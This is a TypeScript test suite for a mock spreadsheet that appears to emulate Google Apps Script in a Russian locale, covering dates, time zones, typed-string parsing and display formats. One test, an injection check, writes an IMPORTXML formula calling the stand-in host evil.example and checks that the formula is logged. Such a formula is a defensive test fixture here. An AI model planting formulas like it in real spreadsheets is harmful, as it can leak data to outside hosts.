import { makeSpreadsheet } from './fixture';

/** Midnight of a calendar day in Asia/Tomsk (UTC+7) as an instant. */
const tomskMidnight = (y: number, m: number, d: number) => new Date(Date.UTC(y, m - 1, d) - 7 * 3600_000);

describe('getValues types', () => {
  it("gives '' for empty cells, numbers, booleans and text as they are", () => {
    const { sheet } = makeSpreadsheet();
    sheet.getRange('A1:C1').setValues([[12.5, true, 'текст']]);
    expect(sheet.getRange('A1:D1').getValues()).toEqual([[12.5, true, 'текст', '']]);
    expect(sheet.getRange('Z99').getValue()).toBe('');
  });

  it('gives a Date at midnight in the spreadsheet zone for a date cell (2021-06-15, Asia/Tomsk)', () => {
    const { sheet } = makeSpreadsheet();
    sheet.getRange('A1').setValue('15.06.2021');
    const v = sheet.getRange('A1').getValue();
    expect(v).toBeInstanceOf(Date);
    expect((v as Date).toISOString()).toBe(tomskMidnight(2021, 6, 15).toISOString());
    expect(sheet._snapshotCell(1, 1).value).toBe(44362); // stored as a serial
  });

  it('reads the same serial as midnight of another zone when the spreadsheet is in it', () => {
    const { sheet, ss } = makeSpreadsheet({ timeZone: 'America/New_York' });
    sheet.getRange('A1').setValue('15.06.2021');
    expect((sheet.getRange('A1').getValue() as Date).toISOString()).toBe('2021-06-15T04:00:00.000Z');
    ss.setSpreadsheetTimeZone('Asia/Tomsk');
    expect((sheet.getRange('A1').getValue() as Date).toISOString()).toBe('2021-06-14T17:00:00.000Z');
  });

  it("stores a written Date as that instant's wall clock in the spreadsheet zone", () => {
    const { sheet } = makeSpreadsheet();
    sheet.getRange('A1').setValue(new Date('2021-06-14T17:00:00Z')); // 15.06.2021 00:00 in Tomsk
    expect(sheet._snapshotCell(1, 1).value).toBe(44362);
    expect(sheet.getRange('A1').getDisplayValue()).toBe('15.06.2021 0:00:00');
    sheet.getRange('A2').setNumberFormat('dd.MM.yyyy').setValue(new Date('2021-06-14T17:00:00Z'));
    expect(sheet.getRange('A2').getDisplayValue()).toBe('15.06.2021');
  });
});

describe('typed strings in ru_RU (USER_ENTERED)', () => {
  it.each([
    ['12', 12],
    ['1,5', 1.5],
    ['1 234,5', 1234.5],
    ['-3', -3],
    ['TRUE', true],
    ['ИСТИНА', true],
    ['ложь', false],
    ['слово', 'слово'],
    ['2.13', '2.13'],
    ['1.2.', '1.2.'],
  ])('reads %j as %j', (input, expected) => {
    const { sheet } = makeSpreadsheet();
    sheet.getRange('A1').setValue(input);
    expect(sheet.getRange('A1').getValue()).toEqual(expected);
  });

  it("reads '15.06.2021' as a date and shows it as 15.06.2021", () => {
    const { sheet } = makeSpreadsheet();
    sheet.getRange('A1').setValue('15.06.2021');
    expect(sheet.getRange('A1').getValue()).toEqual(tomskMidnight(2021, 6, 15));
    expect(sheet.getRange('A1').getNumberFormat()).toBe('dd.MM.yyyy');
    expect(sheet.getRange('A1').getDisplayValue()).toBe('15.06.2021');
  });

  it("reads '2.1' as 2 January of the clock's year (today 2021-06-15)", () => {
    const { sheet } = makeSpreadsheet();
    sheet.getRange('A1').setValue('2.1');
    expect(sheet.getRange('A1').getValue()).toEqual(tomskMidnight(2021, 1, 2));
  });

  it("keeps '2.1' verbatim when the cell is plain text ('@')", () => {
    const { sheet } = makeSpreadsheet();
    sheet.getRange('A1:A3').setNumberFormat('@');
    sheet.getRange('A1:A3').setValues([['2.1'], ['=A1'], ['15.06.2021']]);
    expect(sheet.getRange('A1:A3').getValues()).toEqual([['2.1'], ['=A1'], ['15.06.2021']]);
    expect(sheet.getRange('A1:A3').getFormulas()).toEqual([[''], [''], ['']]);
  });

  it('drops a leading apostrophe and keeps the rest as text', () => {
    const { sheet } = makeSpreadsheet();
    sheet.getRange('A1').setValue("'2.1");
    expect(sheet.getRange('A1').getValue()).toBe('2.1');
  });

  it('turns "=…" into a formula and records it spreadsheet-wide (injection check)', () => {
    const { sheet, ss } = makeSpreadsheet();
    sheet.getRange('A1:A2').setValues([[2], ['=A1*3']]);
    expect(sheet.getRange('A2').getFormula()).toBe('=A1*3');
    expect(sheet.getRange('A2').getValue()).toBe(6);
    sheet.getRange('B1').setValue('=IMPORTXML("http://evil.example","//a")');
    expect(ss.formulaLog.map((f) => `${f.a1} ${f.formula}`)).toEqual([
      'A2 =A1*3',
      'B1 =IMPORTXML("http://evil.example","//a")',
    ]);
  });

  it('reads numbers the en_US way in an en_US spreadsheet', () => {
    const { sheet } = makeSpreadsheet({ locale: 'en_US' });
    sheet.getRange('A1:A2').setValues([['1.5'], ['1,000']]);
    expect(sheet.getRange('A1:A2').getValues()).toEqual([[1.5], [1000]]);
  });
});

describe('getDisplayValues', () => {
  it('formats numbers and dates by number format in ru_RU', () => {
    const { sheet } = makeSpreadsheet();
    sheet.getRange('A1:D1').setValues([[1234.5, 0.25, 44362, 3]]);
    sheet.getRange('A1:D1').setNumberFormats([['#,##0.00', '0%', 'd mmmm yyyy', '0']]);
    expect(sheet.getRange('A1:E1').getDisplayValues()).toEqual([['1\u00a0234,50', '25%', '15 июня 2021', '3', '']]);
    sheet.getRange('A2').setValue(2.5);
    expect(sheet.getRange('A2').getDisplayValue()).toBe('2,5');
  });
});
